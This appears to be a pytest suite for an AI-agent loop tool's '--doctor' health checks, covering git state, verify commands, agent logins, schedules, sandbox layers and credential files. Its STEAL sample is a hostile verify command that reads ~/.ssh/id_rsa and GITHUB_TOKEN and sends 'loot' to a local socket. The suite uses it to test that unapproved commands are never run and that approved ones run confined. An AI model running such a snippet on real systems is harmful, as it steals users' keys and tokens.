"""`--doctor`: each check on real git, a real pytest run on the base commit, fake agent CLIs on
PATH, a fake crontab and a temporary HOME."""

from __future__ import annotations

import json
import os
import platform
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from automaton.commands import doctor_checks
from automaton.commands.doctor import project_checks
from automaton.core.names import LoopName
from automaton.install_paths import FIX, own_roots
from automaton.store import loops
from automaton.store.key import key_path
from automaton.store.layout import Project
from tests.commands.loopkit import loop_with
from tests.helpers import Result, git, init_repo, run_cli, via_json
from tests.schedulers.fakes import install_crontab

PYTEST = [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider"]
SUITE = {
    "src/calc.py": "def add(a, b):\n    return a - b\n",
    "tests/test_calc.py": ("import sys, pathlib\nsys.path.insert(0, str(pathlib.Path(__file__).parents[1] / 'src'))\n"
                           "from calc import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n\n\n"
                           "def test_zero():\n    assert add(0, 0) == 0\n"),
}


def healthy(root: Path, **top: Any) -> Project:
    """A committed project whose suite half passes, and a loop that runs `my-agent`."""
    for rel, text in SUITE.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "suite")
    spec: dict[str, Any] = {"harness": {"name": "command", "command": ["my-agent"]},
                            "roles": {"implement": {"prompt": "implement.md"},
                                      "verify": {"command": PYTEST, "score": "junit"},
                                      "orchestrate": {"builtin": True}},
                            "sandbox": "off"}
    spec.update(top)
    return loop_with(root, **spec)


def doctor(p: Project, *extra: str) -> Result:
    return run_cli("--doctor", *extra, "--project", str(p.root))


def checks(p: Project, *extra: str) -> dict[str, list[dict[str, Any]]]:
    r = doctor(p, *extra, "--json")
    out: dict[str, list[dict[str, Any]]] = {}
    for f in r.json["findings"]:
        out.setdefault(f["check"], []).append(f)
    return out


@pytest.fixture
def agent(fake_bin: Callable[[str, str], Path]) -> Path:
    return fake_bin("my-agent", "print('ok')\n")


@pytest.fixture
def crontab(fake_bin: Callable[[str, str], Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setattr(platform, "system", lambda: "Linux")
    table = tmp_path / "crontab.txt"
    install_crontab(fake_bin, table)
    return table


def test_a_ready_loop_has_no_problems(project: Path, agent: Path, crontab: Path) -> None:
    p = healthy(project)
    assert run_cli("--install-schedule", "demo", "--project", str(p.root)).code == 0
    r = doctor(p)
    assert r.code == 0, r.out
    lines = r.out.splitlines()
    assert lines[-1] == "no problems found" and not any(line.startswith("PROBLEM") for line in lines)
    assert any(line.startswith("ok      project: git repository, HEAD ") for line in lines)
    assert f"ok      demo: harness command: {agent} (on the PATH run-tick.sh exports)" in lines
    base = git(project, "rev-parse", "HEAD").strip()[:12]
    assert (f"ok      demo: verify command '{' '.join(PYTEST)}' scores 0.50 on the base commit {base}"
            " (1/2 passed)") in lines
    assert 'warning demo: "sandbox": "off" in loop.json: the agent runs unconfined and only the hooks and the' \
           " gates stand in its way" in lines
    assert "ok      demo: cron every 900 s, unit present, next fire " in "\n".join(lines)
    assert "note    demo: harness command: a command harness runs no hook; the kernel sandbox is what holds" in lines
    data = doctor(p, "--json").json
    assert data["ok"] is True and data["problems"] == 0
    assert {"loop", "check", "level", "message", "fix"} == set(data["findings"][0])


def test_verify_runs_on_the_base_commit_not_the_working_tree(project: Path, agent: Path) -> None:
    p = healthy(project)
    (project / "src" / "calc.py").write_text("def add(a, b):\n    return a + b\n")  # uncommitted fix
    [verify] = checks(p)["verify"]
    assert "scores 0.50 on the base commit" in verify["message"]


@pytest.mark.parametrize(("verify", "said"), [
    ({"command": [sys.executable, "-c", "print('hello')"], "score": "summary"}, "with no score on the base commit"),
    ({"command": ["no-such-verifier-xyz"], "score": "summary"}, "cannot start"),
])
def test_a_verifier_without_a_score_is_a_problem(project: Path, agent: Path, verify: dict[str, Any],
                                                 said: str) -> None:
    p = healthy(project, roles={"implement": {"prompt": "implement.md"}, "verify": verify,
                                "orchestrate": {"builtin": True}})
    r = doctor(p)
    assert r.code == 1 and r.out.splitlines()[-1].endswith("problem(s) found")
    [line] = [x for x in r.out.splitlines() if x.startswith("PROBLEM demo: verify command")]
    assert said in line and "; fix: " in line


def test_a_hanging_verifier_is_stopped(project: Path, agent: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(doctor_checks, "VERIFY_TIMEOUT_S", 1)
    p = healthy(project, roles={"implement": {"prompt": "implement.md"},
                                "verify": {"command": [sys.executable, "-c", "import time; time.sleep(30)"]},
                                "orchestrate": {"builtin": True}})
    [verify] = checks(p)["verify"]
    assert verify["level"] == "problem" and "ran past 1 s on the base commit" in verify["message"]


def test_an_agent_verifier_is_not_called(project: Path, agent: Path) -> None:
    p = healthy(project, roles={"implement": {"prompt": "implement.md"}, "verify": {"prompt": "implement.md"},
                                "orchestrate": {"builtin": True}})
    [verify] = checks(p)["verify"]
    assert verify["level"] == "note" and "paid agent call" in verify["message"]


def test_harness_missing_from_the_path_the_schedule_exports(project: Path, fake_bin: Callable[[str, str], Path],
                                                             crontab: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    p = healthy(project)
    [h] = checks(p)["harness"]
    assert h["level"] == "problem" and h["message"] == "harness executable 'my-agent' is not on this shell's PATH" \
                                                       " (not scheduled)"
    assert run_cli("--install-schedule", "demo", "--project", str(p.root)).code == 0
    record = p.loop_dir(LoopName("demo")) / "schedule.json"
    record.write_text(json.dumps({**json.loads(record.read_text()), "path": str(project / "no-bin")}))
    fake_bin("my-agent", "print('ok')\n")  # on this shell's PATH now, but not on the one the tick gets
    [h] = checks(p)["harness"]
    assert h["level"] == "problem" and "not on the PATH run-tick.sh exports" in h["message"]
    assert h["fix"] == "install it or fix PATH, then automaton --install-schedule demo"


def test_claude_login_is_found_where_it_is_kept(project: Path, fake_bin: Callable[[str, str], Path],
                                                monkeypatch: pytest.MonkeyPatch, crontab: Path,
                                                forbid_real_home: Path) -> None:
    fake_bin("claude", "print('{}')\n")
    monkeypatch.delenv("ANTHROPIC_API_KEY", raising=False)
    p = healthy(project, harness={"name": "claude", "model": None, "args": [], "timeout_s": 60})
    [login] = checks(p)["login"]
    assert login["level"] == "problem" and login["message"] == (
        "claude does not look logged in: no ~/.claude.json and no ANTHROPIC_API_KEY")
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-test")
    assert checks(p)["login"][0]["level"] == "ok"  # not scheduled: this shell's variable is what a tick gets
    assert run_cli("--install-schedule", "demo", "--project", str(p.root)).code == 0
    [login] = checks(p)["login"]
    assert login["level"] == "problem" and "a scheduled tick does not get it" in login["message"]
    (forbid_real_home / ".claude.json").write_text("{}")
    [login] = checks(p)["login"]
    assert login == {"loop": "demo", "check": "login", "level": "ok", "message": "claude login found (~/.claude.json)",
                     "fix": None}
    [hooks] = checks(p).get("hooks", [None])
    assert hooks is None  # claude gets the hook through --settings: no note


def test_codex_login_and_its_hook_note(project: Path, fake_bin: Callable[[str, str], Path],
                                       monkeypatch: pytest.MonkeyPatch, forbid_real_home: Path) -> None:
    fake_bin("codex", "print('{}')\n")
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    (forbid_real_home / ".codex").mkdir()
    (forbid_real_home / ".codex" / "auth.json").write_text("{}")
    p = healthy(project, harness={"name": "codex", "model": None, "args": [], "timeout_s": 60})
    found = checks(p)
    assert found["login"][0]["level"] == "ok"
    assert found["hooks"][0]["level"] == "note" and "untrusted .codex/" in found["hooks"][0]["message"]


def test_other_agents_say_cannot_check(project: Path, fake_bin: Callable[[str, str], Path]) -> None:
    fake_bin("gemini", "print('{}')\n")
    p = healthy(project, harness={"name": "gemini", "model": None, "args": [], "timeout_s": 60})
    [login] = checks(p)["login"]
    assert login["level"] == "note" and login["message"] == "cannot check whether gemini is logged in without" \
                                                            " calling it"


def test_sandbox_missing_is_a_problem_unless_switched_off(project: Path, agent: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AUTOMATON_SANDBOX_UNAVAILABLE", "1")
    p = healthy(project, sandbox="on")
    [sb] = checks(p)["sandbox"]
    assert sb["level"] == "problem" and "every tick refuses to run" in sb["message"]
    assert 'set "sandbox": "off" in loop.json' in sb["message"]


def test_schedule_problems(project: Path, agent: Path, crontab: Path, approver: str) -> None:
    p = healthy(project)
    [s] = checks(p)["schedule"]
    assert (s["level"], s["fix"]) == ("problem", "automaton --install-schedule demo")
    res = run_cli("--install-schedule", "demo", "--interval", "300", "--project", str(p.root))
    assert res.code == 0 and "differs from loop.json's schedule.interval_seconds (900 s)" in res.err, res.err
    [s] = checks(p)["schedule"]
    assert s["level"] == "warning" and s["message"] == "the schedule fires every 300 s but loop.json says 900 s"
    assert run_cli("--install-schedule", "demo", "--project", str(p.root)).code == 0
    record = p.loop_dir(LoopName("demo")) / "schedule.json"
    data = json.loads(record.read_text())
    record.write_text(json.dumps({**data, "python": str(project / "gone" / "python")}))
    [s] = checks(p)["schedule"]
    assert s["level"] == "problem" and "runs the interpreter" in s["message"] and "which is gone" in s["message"]


def test_git_and_key_problems(tmp_path: Path, agent: Path) -> None:
    bare = tmp_path / "nogit"
    bare.mkdir()
    r = run_cli("--doctor", "--project", str(bare), "--json")
    git_check = next(f for f in r.json["findings"] if f["check"] == "git")
    assert r.code == 1 and git_check["level"] == "problem" and "not in a git repository" in git_check["message"]
    empty = tmp_path / "empty"
    empty.mkdir()
    git(empty, "init", "-q", "-b", "main")
    git_check = next(f for f in run_cli("--doctor", "--project", str(empty), "--json").json["findings"]
                     if f["check"] == "git")
    assert "no commit yet" in git_check["message"] and git_check["fix"].startswith("git add -A")
    p = healthy(init_repo(tmp_path / "proj"))
    key = key_path()
    os.chmod(key, 0o644)
    [k] = checks(p)["key"]
    assert k["level"] == "problem" and k["fix"] == f"chmod 600 {key}" and "0644" in k["message"]


def test_every_loop_without_loop_and_one_with_it(project: Path, agent: Path, approver: str) -> None:
    p = healthy(project)
    loop_with(project, "second", harness={"name": "command", "command": ["my-agent"]}, sandbox="off")
    names = {f["loop"] for f in doctor(p, "--json").json["findings"]}
    assert names == {None, "demo", "second"}
    names = {f["loop"] for f in doctor(p, "--loop", "second", "--json").json["findings"]}
    assert names == {None, "second"}
    r = doctor(p, "--loop", "nope")
    assert r.code == 2 and len(r.err.splitlines()) == 1 and "unknown loop 'nope'" in r.err
    assert run_cli("--doctor", "--delete-branch", "--project", str(p.root)).code == 2  # a stray modifier


def test_halted_tampered_and_changed_config_are_problems(project: Path, agent: Path) -> None:
    p = healthy(project, brakes={"max_iterations": 1})
    loops.update_state(p, "demo", via_json("TICK", {}, lambda s: s.update(iteration_count=1)))
    assert run_cli("--check-gate", "demo", "--project", str(p.root)).code == 1
    [st] = checks(p)["status"]
    assert st["level"] == "problem" and st["fix"] == "a human reviews it, then automaton --approve --loop demo"
    config = p.loop_dir(LoopName("demo")) / "loop.json"
    config.write_text(config.read_text().replace('"max_iterations": 1', '"max_iterations": 2'))
    [cf] = checks(p)["config"]
    assert cf["level"] == "problem" and "differs from the sealed one" in cf["message"]


def test_sandbox_lists_its_layers_and_missing_namespaces_are_a_problem(project: Path, agent: Path,
                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    from automaton.sandbox import available

    if not available().ok:
        pytest.skip(f"no kernel sandbox here: {available().detail}")
    p = healthy(project, sandbox="on")
    [sb] = checks(p)["sandbox"]
    if available().isolated and available().mechanism == "landlock":
        assert sb["level"] == "ok" and "user and mount namespaces" in sb["message"]
        assert f"Landlock ABI {available().abi}" in sb["message"] and "network namespace" in sb["message"]
        assert ("a seccomp filter (no ptrace, pidfd_getfd" in sb["message"]) == available().filtered
    monkeypatch.setenv("AUTOMATON_NAMESPACES_UNAVAILABLE", "1")
    [sb] = checks(p)["sandbox"]
    assert sb["level"] == "problem" and "every tick refuses to run" in sb["message"]
    assert "only: " in sb["message"] and "UNIX sockets in /tmp and /run stay reachable" in sb["message"]


def test_a_sandbox_without_its_seccomp_filter_is_a_warning_that_names_what_stays_open(
        project: Path, agent: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import dataclasses

    import automaton.commands.doctor as doctor_mod
    from automaton.sandbox import available, seccomp

    found = available()
    if not found.ok or found.mechanism != "landlock" or not found.isolated:
        pytest.skip(f"no Landlock sandbox with namespaces here: {found.detail}")
    unfiltered = dataclasses.replace(found, filtered=False,
                                     filter_detail=f"no seccomp filter: this kernel refuses it: {seccomp.OPEN_WITHOUT}")
    monkeypatch.setattr(doctor_mod, "available", lambda: unfiltered)
    [sb] = checks(healthy(project, sandbox="on"))["sandbox"]
    assert sb["level"] == "warning" and "no seccomp filter" in sb["message"] and "pidfd_getfd" in sb["message"]
    assert "cost parser alone refuses a second result" in sb["message"]


def test_the_credential_stores_in_force_and_an_unhidden_one(project: Path) -> None:
    from tests.commands.test_can_edit_config import write_config

    home = Path.home()
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_rsa").write_text("k")
    (home / ".netrc").write_text("n")
    write_config(project, {"schema_version": 1, "sandbox": {"hide": ["~/.config/mytool"], "unhide": ["~/.netrc"]}})
    (home / ".config" / "mytool").mkdir(parents=True)
    found = checks(Project(project))["secrets"]
    head = found[0]
    assert head["level"] == "ok" and "hidden by Landlock (unreadable)" in head["message"]
    assert head["message"].endswith("present here: ~/.ssh, ~/.config/mytool")
    assert [f["level"] for f in found[1:]] == ["warning"]
    assert "~/.netrc is readable to agents" in found[1]["message"]
    assert "sandbox.unhide" in found[1]["fix"]


def test_doctor_warns_when_automaton_lives_in_the_project(project: Path) -> None:
    venv = project / ".venv"
    venv.mkdir()
    (venv / "pyvenv.cfg").write_text("home = /usr/bin\n")
    found = [f for f in project_checks(Project.at(str(project)), own=own_roots(prefixes=[str(venv)], files=[]))
             if f.check == "install"]
    assert [f.level for f in found] == ["warning"]
    assert "inside the project" in found[0].message and found[0].fix == FIX
    assert not [f for f in project_checks(Project.at(str(project)), own=()) if f.check == "install"]


# ---- the doctor never runs a verify command no human approved, and never unconfined -------------

STEAL = """\
import os, pathlib, socket, sys
try:
    text = pathlib.Path(os.path.expanduser('~/.ssh/id_rsa')).read_text()
except OSError:
    text = ''
seen = 'SECRET' in text or bool(os.environ.get('GITHUB_TOKEN'))
try:
    pathlib.Path(sys.argv[1]).write_text('loot')
except OSError:
    pass
try:
    socket.create_connection(('127.0.0.1', int(sys.argv[2])), timeout=2).sendall(b'loot')
except OSError:
    pass
print('1 failed' if seen else '1 passed')
"""


def _steal_loop(project: Path, out: Path, port: int) -> Project:
    (Path.home() / ".ssh").mkdir(exist_ok=True)
    (Path.home() / ".ssh" / "id_rsa").write_text("SECRET-KEY")
    roles = {"implement": {"prompt": "implement.md"},
             "verify": {"command": [sys.executable, "-c", STEAL, str(out), str(port)], "score": "summary"},
             "orchestrate": {"builtin": True}}
    return healthy(project, roles=roles, sandbox="on")


def test_an_unapproved_or_changed_verify_command_is_not_run(project: Path, tmp_path: Path,
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "stolen.txt"
    p = _steal_loop(project, out, 9)
    loop_json = p.loop_dir(LoopName("demo")) / "loop.json"
    data = json.loads(loop_json.read_text())
    data["description"] = "changed after the seal"
    loop_json.write_text(json.dumps(data))
    [found] = checks(p, "--loop", "demo")["verify"]
    assert found["level"] == "note" and "not run: loop.json differs from the sealed one" in found["message"]
    assert not out.exists()


def test_an_approved_verify_command_runs_confined_without_credentials(project: Path, tmp_path: Path,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    import socket

    from automaton.sandbox import available

    if not available().ok or not available().isolated:
        pytest.skip(f"no kernel sandbox with namespaces here: {available().detail}")
    out = tmp_path / "stolen.txt"
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_example")
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.5)
        p = _steal_loop(project, out, server.getsockname()[1])
        [found] = checks(p, "--loop", "demo")["verify"]
        with pytest.raises(TimeoutError):
            server.accept()  # nothing connected: the verify command has no network
    # It saw neither the key nor the token (its own verdict), and wrote nothing outside its export.
    assert found["level"] == "ok" and "scores 1.00" in found["message"], found
    assert not out.exists()


def _npm_install(root: Path, package: str, version: str, exe: str) -> Path:
    """A folder laid out as `npm install` leaves it: node_modules/<pkg>/bin/<exe> with its
    package.json, linked from node_modules/.bin/<exe>; returns the .bin folder."""
    pkg = root / "node_modules" / package
    (pkg / "bin").mkdir(parents=True)
    (pkg / "package.json").write_text(json.dumps({"name": package, "version": version}))
    target = pkg / "bin" / exe
    target.write_text("#!/bin/sh\necho '{}'\n")
    target.chmod(0o755)
    (root / "node_modules" / ".bin").mkdir()
    (root / "node_modules" / ".bin" / exe).symlink_to(target)
    return root / "node_modules" / ".bin"


@pytest.mark.parametrize("version, level, needle", [
    ("2.1.332", "ok", "claude 2.1.332 is in the tested range (2.1.332)"),
    ("2.2.0", "warning", "claude 2.2.0 is outside the tested range (2.1.332)"),
])
def test_doctor_says_whether_the_installed_cli_was_tested(project: Path, tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch,
                                                          version: str, level: str, needle: str) -> None:
    bin_dir = _npm_install(tmp_path / "npm", "@anthropic-ai/claude-code", version, "claude")
    monkeypatch.setenv("PATH", f"{bin_dir}:{os.environ['PATH']}")
    p = healthy(project, harness={"name": "claude", "model": None, "args": [], "timeout_s": 60})
    [found] = checks(p)["harness-version"]
    assert found["level"] == level and found["message"].startswith(needle), found


def test_doctor_notes_a_cli_whose_version_it_cannot_read(project: Path, fake_bin: Callable[[str, str], Path]) -> None:
    fake_bin("claude", "print('{}')\n")
    p = healthy(project, harness={"name": "claude", "model": None, "args": [], "timeout_s": 60})
    [found] = checks(p)["harness-version"]
    assert found["level"] == "note" and found["message"].startswith("cannot read the version of ")


def _with_submodule(project: Path, tmp_path: Path, *, initialised: bool) -> Project:
    """`project` with submodule `vendor/lib` whose score.txt the verifier prints; `initialised`
    False: a clone of it whose `.git/modules` holds nothing (the submodule was never fetched)."""
    import subprocess

    from tests.helpers import GIT_ENV

    lib = init_repo(tmp_path / "lib")
    (lib / "score.txt").write_text("1 passed, 1 failed\n")
    git(lib, "add", ".")
    git(lib, "commit", "-qm", "lib")
    subprocess.run(["git", "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(lib), "vendor/lib"],
                   cwd=project, check=True, capture_output=True, env={**os.environ, **GIT_ENV})
    git(project, "commit", "-qm", "submodule")
    root = project
    if not initialised:
        root = tmp_path / "clone"
        subprocess.run(["git", "clone", "-q", str(project), str(root)], check=True, capture_output=True)
    read = [sys.executable, "-c", "import pathlib; print(pathlib.Path('vendor/lib/score.txt').read_text())"]
    return healthy(root, roles={"implement": {"prompt": "implement.md"},
                                "verify": {"command": read, "score": "summary"},
                                "orchestrate": {"builtin": True}})


def test_the_verifier_scores_on_an_export_with_the_submodules_files(project: Path, tmp_path: Path,
                                                                    agent: Path) -> None:
    """Submodules were empty in the verifier's export: an honest fix scored 0 and --doctor said ok."""
    [verify] = checks(_with_submodule(project, tmp_path, initialised=True))["verify"]
    assert verify["level"] == "ok" and "scores 0.50 on the base commit" in verify["message"]


def test_a_submodule_the_export_cannot_fill_is_a_problem(project: Path, tmp_path: Path, agent: Path) -> None:
    [verify] = checks(_with_submodule(project, tmp_path, initialised=False))["verify"]
    assert verify["level"] == "problem" and "submodule vendor/lib is empty" in verify["message"]
    assert "git submodule update --init" in verify["fix"]
def _key_finding(root: Path) -> dict[str, Any]:
    from dataclasses import asdict

    from automaton.store import key

    key.forget()
    [k] = [asdict(f) for f in project_checks(Project.at(str(root))) if f.check == "key"]
    return k


def test_a_handed_key_is_checked_present_readable_long_enough_and_outside_the_repo(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = init_repo(tmp_path / "proj")
    hexkey = "0123456789abcdef" * 4
    monkeypatch.setenv("AUTOMATON_RECORD_KEY", hexkey)
    k = _key_finding(root)
    assert k["level"] == "ok" and "$AUTOMATON_RECORD_KEY" in k["message"] and hexkey not in k["message"]
    monkeypatch.setenv("AUTOMATON_RECORD_KEY", hexkey[:40])
    k = _key_finding(root)
    assert k["level"] == "problem" and "not an automaton key" in k["message"] and hexkey[:40] not in k["message"]
    monkeypatch.delenv("AUTOMATON_RECORD_KEY")
    outside = tmp_path / "secret" / "record-key"
    monkeypatch.setenv("AUTOMATON_RECORD_KEY_FILE", str(outside))
    assert "does not exist" in _key_finding(root)["message"]
    outside.parent.mkdir()
    outside.write_text(hexkey + "\n")
    outside.chmod(0o644)
    assert "lets every user see" in _key_finding(root)["message"]
    outside.chmod(0o400)
    assert _key_finding(root)["level"] == "ok"
    inside = root / ".secrets" / "record-key"
    inside.parent.mkdir()
    inside.write_text(hexkey + "\n")
    inside.chmod(0o400)
    monkeypatch.setenv("AUTOMATON_RECORD_KEY_FILE", str(inside))
    k = _key_finding(root)
    assert k["level"] == "problem" and "inside the project" in k["message"]
    assert not key_path().exists()  # the doctor never makes a key either


def test_an_invalid_loop_json_names_the_file_the_field_and_the_command_for_each_problem(project: Path) -> None:
    p = loop_with(project, "demo")
    path = p.loop_dir(LoopName("demo")) / "loop.json"
    data = json.loads(path.read_text())
    data["harness"]["timeout_s"] = -1
    data["brakes"]["max_iteration"] = 3
    path.write_text(json.dumps(data))
    out = run_cli("--doctor", "--loop", "demo", "--project", str(project))
    fixes = [line.partition("; fix: ")[2] for line in out.out.splitlines()
             if line.startswith("PROBLEM demo: ") and str(path) + ": " in line.partition("; fix: ")[0]]
    assert fixes == [f"correct {field} in {path}, then a human runs automaton --approve --loop demo (it shows the"
                     " diff and seals it)" for field in ("harness.timeout_s", "brakes.max_iteration")], out.out
